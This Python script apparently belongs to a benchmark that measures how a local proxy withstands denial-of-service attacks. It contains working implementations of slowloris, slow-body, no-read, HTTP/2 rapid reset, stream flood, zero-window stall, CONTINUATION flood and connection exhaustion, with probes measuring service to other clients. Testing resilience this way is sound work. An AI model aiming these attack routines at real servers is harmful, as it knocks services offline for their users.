"""One attack on one proxy, measured from outside; prints one JSON line.
Standard library only; HTTP/2 frames are written by hand (struct).

    python3 attack.py ATTACK --port P [--h2c-port P] [--tls-port P]
        --probe-port P --pid PID --backend-port P --backend-control P
        --fault-port P --fault-control P --duration S --timeout S

Every attack runs for at most --duration seconds while a well-behaved probe
client (a new HTTP/1.1 connection every 100 ms to --probe-port, GET, 5 s
limit) measures whether others are still served, and a sampler counts with
`ss` the ESTABLISHED client connections of the proxy's ports and the
proxy's own connections to the backends (by --pid). Every loop is bounded
in count and time; traffic goes to 127.0.0.1 only. The fault attacks start
their own backend (backend.py on --fault-port) and stop it by its PID.
"""
import argparse
import json
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

HOST = "127.0.0.1"
HERE = os.path.dirname(os.path.abspath(__file__))


# --- measuring ----------------------------------------------------------------

def tcp_state(sock):
    """The kernel's TCP state of a socket: 1 established, 8 close-wait (the
    peer closed), 7 closed (reset)."""
    try:
        return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except OSError:
        return 7


class Probe(threading.Thread):
    """A well-behaved client: every `every` s a new connection and one GET,
    each in a thread of its own (so one that waits does not delay the
    next), at most `limit` s each."""

    def __init__(self, port, path="/", every=0.1, limit=5.0):
        super().__init__(daemon=True)
        self.port, self.path, self.every, self.limit = port, path, every, limit
        self.results = []  # (start offset, latency, status or error)
        self.lock = threading.Lock()
        self.threads = []
        self.stop = threading.Event()
        self.started = time.monotonic()

    def once(self):
        start = time.monotonic()
        try:
            with socket.create_connection((HOST, self.port), timeout=self.limit) as s:
                s.settimeout(max(0.1, self.limit - (time.monotonic() - start)))
                s.sendall(f"GET {self.path} HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n".encode())
                data = b""
                while b"\r\n" not in data and len(data) < 4096:
                    chunk = s.recv(4096)
                    if not chunk:
                        break
                    data += chunk
            status = data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/") else "closed"
        except socket.timeout:
            status = "timeout"
        except OSError as error:
            status = type(error).__name__
        with self.lock:
            self.results.append((start - self.started, time.monotonic() - start, status))

    def run(self):
        for _ in range(100000):
            if self.stop.is_set():
                break
            thread = threading.Thread(target=self.once, daemon=True)
            thread.start()
            self.threads.append(thread)
            self.stop.wait(self.every)
        for thread in self.threads:
            thread.join(self.limit + 1)

    def summary(self):
        total = len(self.results)
        ok = [r for r in self.results if r[2].startswith("2")]
        latencies = sorted(r[1] for r in ok)
        errors = {}
        for r in self.results:
            if not r[2].startswith("2"):
                errors[r[2]] = errors.get(r[2], 0) + 1
        return {
            "probe_total": total,
            "probe_ok": len(ok),
            "probe_errors": errors,
            "probe_p50_ms": round(1000 * latencies[len(latencies) // 2], 1) if latencies else None,
            "probe_max_ms": round(1000 * max(r[1] for r in self.results), 1) if self.results else None,
        }


class Sampler(threading.Thread):
    """Counts, every 250 ms, the proxy's ESTABLISHED client connections on
    `ports` and its connections to `upstream_ports` (sockets of `pid`)."""

    def __init__(self, ports, upstream_ports, pid, backend_control):
        super().__init__(daemon=True)
        self.backend_control = backend_control
        self.busy_peak = self.busy_last = 0
        self.ports = {str(p) for p in ports if p}
        self.upstream_ports = {str(p) for p in upstream_ports if p}
        self.pid = f"pid={pid},"
        self.stop = threading.Event()
        self.client_peak = self.upstream_peak = 0
        self.client_last = self.upstream_last = 0
        self.queue_peak = 0
        self.frozen = None

    def freeze(self):
        """Takes the counts that the result calls the ones at the end: the
        attack's connections are still open."""
        self.sample()
        self.frozen = (self.client_last, self.upstream_last, self.busy_last)

    def sample(self):
        out = subprocess.run(["ss", "-Htnp", "state", "established"], capture_output=True, text=True).stdout
        clients = upstreams = 0
        for line in out.splitlines():
            fields = line.split()
            if len(fields) < 4:
                continue
            local, peer = fields[2].rsplit(":", 1)[1], fields[3].rsplit(":", 1)[1]
            if local in self.ports:
                clients += 1
            elif peer in self.upstream_ports and self.pid in line:
                upstreams += 1
        listening = subprocess.run(["ss", "-Hltn"], capture_output=True, text=True).stdout
        queued = 0
        for line in listening.splitlines():
            fields = line.split()
            if len(fields) >= 4 and fields[3].rsplit(":", 1)[1] in self.ports:
                queued += int(fields[1])
        self.busy_last = int(control(self.backend_control, "inflight") or 0)
        self.busy_peak = max(self.busy_peak, self.busy_last)
        self.client_last, self.upstream_last = clients, upstreams
        self.client_peak = max(self.client_peak, clients)
        self.upstream_peak = max(self.upstream_peak, upstreams)
        self.queue_peak = max(self.queue_peak, queued)

    def run(self):
        for _ in range(100000):
            self.sample()
            if self.stop.wait(0.25):
                return

    def summary(self):
        client_end, upstream_end, busy_end = self.frozen or (self.client_last, self.upstream_last,
                                                             self.busy_last)
        return {
            "backend_busy_peak": self.busy_peak,
            "backend_busy_end": busy_end,
            "client_conns_peak": self.client_peak,
            "client_conns_end": client_end,
            "accept_queue_peak": self.queue_peak,
            "upstream_conns_peak": self.upstream_peak,
            "upstream_conns_end": upstream_end,
        }


SAMPLER = None


def freeze():
    if SAMPLER is not None:
        SAMPLER.freeze()


def rss_kib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


def control(port, command):
    try:
        with socket.create_connection((HOST, port), timeout=5) as s:
            s.sendall(command.encode() + b"\n")
            return s.makefile().readline().strip()
    except OSError:
        return None


def median(values):
    values = sorted(values)
    return round(values[len(values) // 2], 2) if values else None


def established_peers(port):
    """The peer ports of the ESTABLISHED connections accepted on `port`."""
    out = subprocess.run(["ss", "-Htn", "state", "established", f"( sport = :{port} )"],
                         capture_output=True, text=True).stdout
    return {int(line.split()[3].rsplit(":", 1)[1]) for line in out.splitlines() if len(line.split()) >= 4}


class Held:
    """Connections of an attack and when the proxy closed each: seen from
    the proxy's side (its socket no longer ESTABLISHED: a FIN that waits
    behind unread data is a close too) or from ours (FIN read, reset)."""

    def __init__(self, port):
        self.port = port
        self.socks = []  # [socket, opened, closed or None, local port]
        self.start = time.monotonic()

    def add(self, sock):
        self.socks.append([sock, time.monotonic(), None, sock.getsockname()[1]])

    def check(self):
        now = time.monotonic()
        peers = established_peers(self.port)
        for entry in self.socks:
            if entry[2] is None and (tcp_state(entry[0]) != 1 or entry[3] not in peers):
                entry[2] = now

    def open(self):
        return [e for e in self.socks if e[2] is None]

    def summary(self):
        self.check()
        freeze()
        closed = [e[2] - e[1] for e in self.socks if e[2] is not None]
        return {
            "opened": len(self.socks),
            "closed_by_proxy": len(closed),
            "close_after_s": median(closed),
            "still_open": len(self.socks) - len(closed),
        }

    def close(self):
        for entry in self.socks:
            try:
                entry[0].close()
            except OSError:
                pass


def connect(port, rcvbuf=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(5)
    s.connect((HOST, port))
    s.setblocking(False)
    return s


def send_quietly(sock, data):
    try:
        sock.send(data)
        return True
    except (BlockingIOError, OSError):
        return False


# --- HTTP/1 attacks -----------------------------------------------------------

def slowloris(args):
    """Request heads trickled: a header line per connection every second."""
    held = Held(args.port)
    for _ in range(args.connections):
        s = connect(args.port)
        send_quietly(s, b"GET / HTTP/1.1\r\nHost: attack\r\n")
        held.add(s)
    deadline = held.start + args.duration
    next_line = held.start + 1
    for _ in range(10000):
        if time.monotonic() >= deadline:
            break
        time.sleep(min(0.25, max(0.0, deadline - time.monotonic())))
        held.check()
        if time.monotonic() >= next_line:
            next_line += 1
            for entry in held.open():
                send_quietly(entry[0], b"X-Slow: 1\r\n")
    result = held.summary()
    held.close()
    result["summary"] = "{closed_by_proxy}/{opened} closed, median {close_after_s} s".format(**result)
    return result


def slow_body(args, every):
    """POST bodies trickled: one byte every `every` s (Content-Length 1000)."""
    held = Held(args.port)
    for _ in range(args.connections):
        s = connect(args.port)
        send_quietly(s, b"POST /upload HTTP/1.1\r\nHost: attack\r\nContent-Length: 1000\r\n\r\nx")
        held.add(s)
    deadline = held.start + args.duration
    next_byte = held.start + every
    for _ in range(10000):
        now = time.monotonic()
        if now >= deadline:
            break
        time.sleep(min(0.25, max(0.0, deadline - now)))
        held.check()
        if time.monotonic() >= next_byte:
            next_byte += every
            for entry in held.open():
                send_quietly(entry[0], b"x")
    result = held.summary()
    held.close()
    result["summary"] = "{closed_by_proxy}/{opened} closed, median {close_after_s} s".format(**result)
    return result


def no_read(args):
    """GET /big (16 MiB) on a 4 KiB receive buffer, never read."""
    held = Held(args.port)
    for _ in range(args.connections):
        s = connect(args.port, rcvbuf=4096)
        send_quietly(s, b"GET /big HTTP/1.1\r\nHost: attack\r\n\r\n")
        held.add(s)
    deadline = held.start + args.duration
    for _ in range(10000):
        if time.monotonic() >= deadline:
            break
        time.sleep(0.25)
        held.check()
    result = held.summary()
    held.close()
    result["summary"] = "{closed_by_proxy}/{opened} closed, median {close_after_s} s".format(**result)
    return result


# --- HTTP/2 -------------------------------------------------------------------

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
REASONS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
           5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
           9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def hpack_int(value, prefix_bits, first):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(text):
    data = text.encode()
    return hpack_int(len(data), 7, 0) + data


def request_block(method, path, authority="attack", extra=()):
    """A header block: static-table method and scheme, literal path and
    authority, then `extra` (name, value) literals; no Huffman, no indexing."""
    block = bytes([0x82 if method == "GET" else 0x83, 0x86])
    block += hpack_int(4, 4, 0) + hpack_string(path)
    block += hpack_int(1, 4, 0) + hpack_string(authority)
    for name, value in extra:
        block += b"\x00" + hpack_string(name) + hpack_string(value)
    return block


class H2:
    """A raw HTTP/2 client connection: frames written by hand; a reader
    thread notes what the server sends and answers its PINGs (unless told
    not to) and SETTINGS."""

    def __init__(self, port, tls=False, window=65535, answer_pings=True):
        raw = socket.create_connection((HOST, port), timeout=5)
        if tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            raw = context.wrap_socket(raw, server_hostname="attack.test")
            assert raw.selected_alpn_protocol() == "h2", raw.selected_alpn_protocol()
        raw.settimeout(None)
        self.sock = raw
        self.lock = threading.Lock()
        self.send_lock = threading.Lock()
        self.answer_pings = answer_pings
        self.error = None
        self.goaway = None  # (code name, time)
        self.closed_at = None
        self.resets = {}  # stream -> (code name, time)
        self.responses = {}  # stream -> time of HEADERS
        self.ended = set()
        self.data = {}
        self.start = time.monotonic()
        settings = struct.pack(">HI", 4, window) + struct.pack(">HI", 2, 0)  # window, no push
        self.stopping = False
        self.settings_acked = threading.Event()
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + self.frame(SETTINGS, 0, 0, settings))
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()

    @staticmethod
    def frame(kind, flags, stream, payload=b""):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    def send(self, data, limit=5.0):
        """Sends all of `data`; False once the connection is gone or the
        server stops taking bytes for `limit` s. One lock covers the socket:
        an OpenSSL connection must not read and write in two threads at once."""
        with self.send_lock:  # frames of two senders never interleave
            return self.send_all(memoryview(data), time.monotonic() + limit)

    def send_all(self, view, deadline):
        for _ in range(1_000_000):
            if not view:
                return True
            if time.monotonic() >= deadline or self.closed_at is not None:
                return False
            with self.lock:
                try:
                    self.sock.settimeout(0.05)
                    sent = self.sock.send(view[:65536])
                except (socket.timeout, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    sent = 0
                except (OSError, ssl.SSLError):
                    return False
            view = view[sent:]
        return False

    def read(self):
        buf = b""
        try:
            for _ in range(10_000_000):
                if self.stopping:
                    return
                with self.lock:
                    try:
                        self.sock.settimeout(0.05)
                        chunk = self.sock.recv(65536)
                    except (socket.timeout, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                        chunk = None
                if chunk is None:
                    time.sleep(0.001)  # let a sender take the lock
                    continue
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload = buf[9:9 + length]
                    buf = buf[9 + length:]
                    self.on_frame(kind, flags, stream, payload)
        except (OSError, ssl.SSLError, ValueError) as error:
            self.error = f"{type(error).__name__}: {error}"
        self.closed_at = time.monotonic() - self.start

    def on_frame(self, kind, flags, stream, payload):
        now = time.monotonic() - self.start
        if kind == SETTINGS and not flags & ACK:
            self.send(self.frame(SETTINGS, ACK, 0))
            self.settings_acked.set()
        elif kind == PING and not flags & ACK and self.answer_pings:
            self.send(self.frame(PING, ACK, 0, payload))
        elif kind == GOAWAY and self.goaway is None:
            code = int.from_bytes(payload[4:8], "big")
            self.goaway = (REASONS.get(code, str(code)), now)
        elif kind == RST_STREAM:
            code = int.from_bytes(payload[:4], "big")
            self.resets.setdefault(stream, (REASONS.get(code, str(code)), now))
        elif kind == HEADERS:
            self.responses.setdefault(stream, now)
            if flags & END_STREAM:
                self.ended.add(stream)
        elif kind == DATA:
            self.data[stream] = self.data.get(stream, 0) + len(payload)
            if flags & END_STREAM:
                self.ended.add(stream)

    def done(self):
        return self.closed_at is not None or self.goaway is not None

    def close(self):
        self.stopping = True
        self.reader.join(1)
        try:
            self.sock.close()
        except OSError:
            pass

    def reset_codes(self):
        codes = {}
        for code, _ in self.resets.values():
            codes[code] = codes.get(code, 0) + 1
        return codes

    def ending(self):
        if self.goaway:
            return f"GOAWAY {self.goaway[0]} at {self.goaway[1]:.1f} s"
        if self.closed_at is not None:
            return f"closed at {self.closed_at:.1f} s" + (f" ({self.error})" if self.error else "")
        return "connection open at the end"


def h2_port(args):
    return args.tls_port if args.tls else args.h2c_port


def rapid_reset(args):
    """HEADERS then RST_STREAM(CANCEL), stream after stream, until the
    server stops it (at most 20,000 streams or --duration)."""
    before = int(control(args.backend_control, "count") or 0)
    conn = H2(h2_port(args), tls=args.tls)
    sent = 0
    deadline = time.monotonic() + args.duration
    block = request_block("GET", "/")
    for batch in range(200):
        if conn.done() or time.monotonic() >= deadline:
            break
        frames = b""
        for _ in range(100):
            stream = 2 * sent + 1
            frames += conn.frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
            frames += conn.frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            sent += 1
        if not conn.send(frames, limit=2):
            break
        time.sleep(0.01)
    for _ in range(100):
        if conn.done() or time.monotonic() >= deadline:
            break
        time.sleep(0.05)
    time.sleep(0.5)
    after = int(control(args.backend_control, "count") or 0)
    conn.close()
    result = {"streams_sent": sent, "ending": conn.ending(), "backend_requests": after - before,
              "answered": len(conn.responses)}
    result["summary"] = f"{sent} streams sent; {conn.ending()}; {after - before} reached the backend"
    return result


def stream_flood(args):
    """1,000 streams of GET /slow (2 s) opened at once on one connection,
    far past any server's SETTINGS_MAX_CONCURRENT_STREAMS."""
    conn = H2(h2_port(args), tls=args.tls)
    block = request_block("GET", "/slow")
    frames = b"".join(conn.frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block) for i in range(1000))
    conn.send(frames, limit=5)
    deadline = time.monotonic() + args.duration
    for _ in range(10000):
        if conn.done() or time.monotonic() >= deadline:
            break
        if len(conn.ended) + len(conn.resets) >= 1000:
            break
        time.sleep(0.1)
    conn.close()
    codes = conn.reset_codes()
    result = {"answered": len(conn.responses), "completed": len(conn.ended), "resets": codes,
              "ending": conn.ending()}
    resets = ", ".join(f"{n} {c}" for c, n in sorted(codes.items())) or "none"
    result["summary"] = f"{len(conn.ended)} completed; resets: {resets}; {conn.ending()}"
    return result


def window_stall(args):
    """SETTINGS_INITIAL_WINDOW_SIZE 0, 10 streams of GET /big, PINGs
    answered (and one sent every second), never a WINDOW_UPDATE."""
    conn = H2(h2_port(args), tls=args.tls, window=0)
    block = request_block("GET", "/big")
    conn.send(b"".join(conn.frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block) for i in range(10)))
    deadline = time.monotonic() + args.duration
    pings = 0
    for _ in range(10000):
        if conn.closed_at is not None or time.monotonic() >= deadline:
            break
        time.sleep(0.25)
        if time.monotonic() - conn.start > pings + 1:
            pings += 1
            conn.send(conn.frame(PING, 0, 0, struct.pack(">Q", pings)))
    freeze()
    conn.close()
    reset_times = [t for _, t in conn.resets.values()]
    result = {"streams": 10, "reset": len(conn.resets), "reset_after_s": median(reset_times),
              "ending": conn.ending(), "codes": conn.reset_codes()}
    result["summary"] = (f"{len(conn.resets)}/10 streams reset (median {median(reset_times)} s); "
                         f"{conn.ending()}")
    return result


def continuation_flood(args):
    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB of
    header literals, never ending the block (64 KiB every 20 ms, at most
    64 MiB or --duration)."""
    rss_before = rss_kib(args.pid)
    conn = H2(h2_port(args), tls=args.tls)
    first = request_block("GET", "/")
    literal = b"\x00" + hpack_string("x-flood") + hpack_string("a" * 100)
    piece = literal * (16384 // len(literal))
    sent = 0
    # Nothing but CONTINUATION may follow an open header block: the ACK of
    # the server's SETTINGS goes first.
    conn.settings_acked.wait(2)
    ok = conn.send(conn.frame(HEADERS, 0, 1, first))
    deadline = time.monotonic() + args.duration
    stalled = False
    # 64 KiB every 20 ms: what was sent when the server's answer came is
    # about what it read, not what the socket buffers took.
    for i in range(4096):
        if not ok or conn.done() or time.monotonic() >= deadline:
            break
        ok = conn.send(conn.frame(CONTINUATION, 0, 1, piece), limit=2)
        if ok:
            sent += len(piece)
        else:
            stalled = conn.closed_at is None
        if i % 4 == 3:
            time.sleep(0.02)
    for _ in range(20):
        if conn.done():
            break
        time.sleep(0.05)
    rss_after = rss_kib(args.pid)
    conn.close()
    ending = conn.ending()
    if stalled and not conn.done():
        ending = "server stopped reading"
    result = {"accepted_kib": sent // 1024, "ending": ending, "rss_before_kib": rss_before,
              "rss_after_kib": rss_after}
    growth = (rss_after - rss_before) // 1024 if rss_after and rss_before else "?"
    result["summary"] = f"{ending}, after {sent // 1024} KiB of header block; RSS +{growth} MiB"
    return result


# --- connections --------------------------------------------------------------

def max_connections(args):
    """Holds --connections silent connections (no byte sent), opening a new
    one whenever the proxy closes one (at most 20,000 opens)."""
    held = Held(args.port)
    deadline = held.start + args.duration
    opens = 0
    live = []
    for _ in range(100000):
        if time.monotonic() >= deadline or opens >= 20000:
            break
        # Established, or waiting for the accept queue (SYN sent): held.
        live = [s for s in live if tcp_state(s) in (1, 2) or s.close()]
        for _ in range(args.connections - len(live)):
            if opens >= 20000:
                break
            try:
                s = socket.socket()
                s.setblocking(False)
                s.connect_ex((HOST, args.port))
                live.append(s)
                opens += 1
            except OSError:
                break
        time.sleep(0.1)
    freeze()
    for s in live:
        s.close()
    result = {"held": args.connections, "opens": opens}
    result["summary"] = f"{args.connections} held, {opens} opened in all"
    return result


# --- faults -------------------------------------------------------------------

FAULT_BACKENDS = []


def start_fault_backend(args):
    """backend.py on --fault-port; stopped by its PID (here, or at exit)."""
    process = subprocess.Popen([sys.executable, os.path.join(HERE, "backend.py"), str(args.fault_port),
                                str(args.fault_control)], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    FAULT_BACKENDS.append(process)
    process.stdout.readline()
    return process


def first_ok_after(probe, moment):
    for start, latency, status in probe.results:
        if start >= moment and status.startswith("2"):
            return round(start + latency - moment, 2)
    return None


def backend_dies(args, probe, backend):
    """The backend behind /fault/ is killed at a third of the run and
    started again on the same port at two thirds."""
    third = args.duration / 3
    time.sleep(third)
    backend.kill()
    backend.wait()
    killed = time.monotonic() - probe.started
    time.sleep(third)
    backend = start_fault_backend(args)
    restarted = time.monotonic() - probe.started
    time.sleep(third)
    probe.stop.set()
    probe.join()
    backend.kill()
    backend.wait()
    down = [r for r in probe.results if killed <= r[0] < restarted]
    statuses = {}
    for r in down:
        statuses[r[2]] = statuses.get(r[2], 0) + 1
    result = {"while_down": statuses, "down_max_ms": round(1000 * max((r[1] for r in down), default=0), 1),
              "recovered_after_s": first_ok_after(probe, restarted)}
    shown = ", ".join(f"{n}x {s}" for s, n in sorted(statuses.items()))
    result["summary"] = (f"while down: {shown} (slowest {result['down_max_ms']} ms); "
                         f"back {result['recovered_after_s']} s after restart")
    return result


def backend_stalls(args, probe, backend):
    """The backend behind /fault/ stops answering (reads requests, never
    responds) for two thirds of the run."""
    time.sleep(args.duration / 6)
    control(args.fault_control, "stall")
    stalled = time.monotonic() - probe.started
    time.sleep(args.duration * 2 / 3)
    control(args.fault_control, "unstall")
    unstalled = time.monotonic() - probe.started
    time.sleep(args.duration / 6)
    probe.stop.set()
    probe.join()
    backend.kill()
    backend.wait()
    during = [r for r in probe.results if stalled <= r[0] < unstalled - args.timeout]
    statuses = {}
    for r in during:
        statuses[r[2]] = statuses.get(r[2], 0) + 1
    lat = [r[1] for r in during]
    result = {"while_stalled": statuses, "stalled_median_ms": round(1000 * median(lat), 1) if lat else None,
              "recovered_after_s": first_ok_after(probe, unstalled)}
    shown = ", ".join(f"{n}x {s}" for s, n in sorted(statuses.items()))
    result["summary"] = f"while stalled: {shown} after {result['stalled_median_ms']} ms (median)"
    return result


ATTACKS = {
    "slowloris": slowloris,
    "slow_body_under": lambda a: slow_body(a, every=a.timeout * 2 / 3),
    "slow_body_over": lambda a: slow_body(a, every=a.timeout * 2),
    "no_read": no_read,
    "rapid_reset": rapid_reset,
    "stream_flood": stream_flood,
    "window_stall": window_stall,
    "continuation_flood": continuation_flood,
    "max_connections": max_connections,
    "backend_dies": backend_dies,
    "backend_stalls": backend_stalls,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=sorted(ATTACKS))
    for name in ["port", "h2c-port", "tls-port", "probe-port", "pid", "backend-port", "backend-control",
                 "fault-port", "fault-control", "connections"]:
        parser.add_argument("--" + name, type=int, default=0)
    parser.add_argument("--duration", type=float, default=8)
    parser.add_argument("--timeout", type=float, default=3)
    parser.add_argument("--tls", action="store_true")
    args = parser.parse_args()
    fault = args.attack.startswith("backend_")
    probe = Probe(args.probe_port, path="/fault/" if fault else "/", every=0.2 if fault else 0.1,
                  limit=args.timeout * 3 if fault else 5.0)
    ports = [args.port, args.h2c_port, args.tls_port]
    global SAMPLER
    sampler = SAMPLER = Sampler(ports, [args.backend_port, args.fault_port], args.pid, args.backend_control)
    sampler.start()
    try:
        if fault:
            backend = start_fault_backend(args)
            probe.start()
            result = ATTACKS[args.attack](args, probe, backend)
        else:
            probe.start()
            result = ATTACKS[args.attack](args)
    except Exception as error:  # a failed attack is a result too
        result = {"summary": f"attack failed: {type(error).__name__}: {error}"}
    finally:
        for process in FAULT_BACKENDS:
            if process.poll() is None:
                process.kill()
                process.wait()
    probe.stop.set()
    if probe.ident is not None:
        probe.join()
    sampler.stop.set()
    sampler.join()
    result.update(probe.summary())
    result.update(sampler.summary())
    result["attack"] = args.attack + ("_tls" if args.tls else "")
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
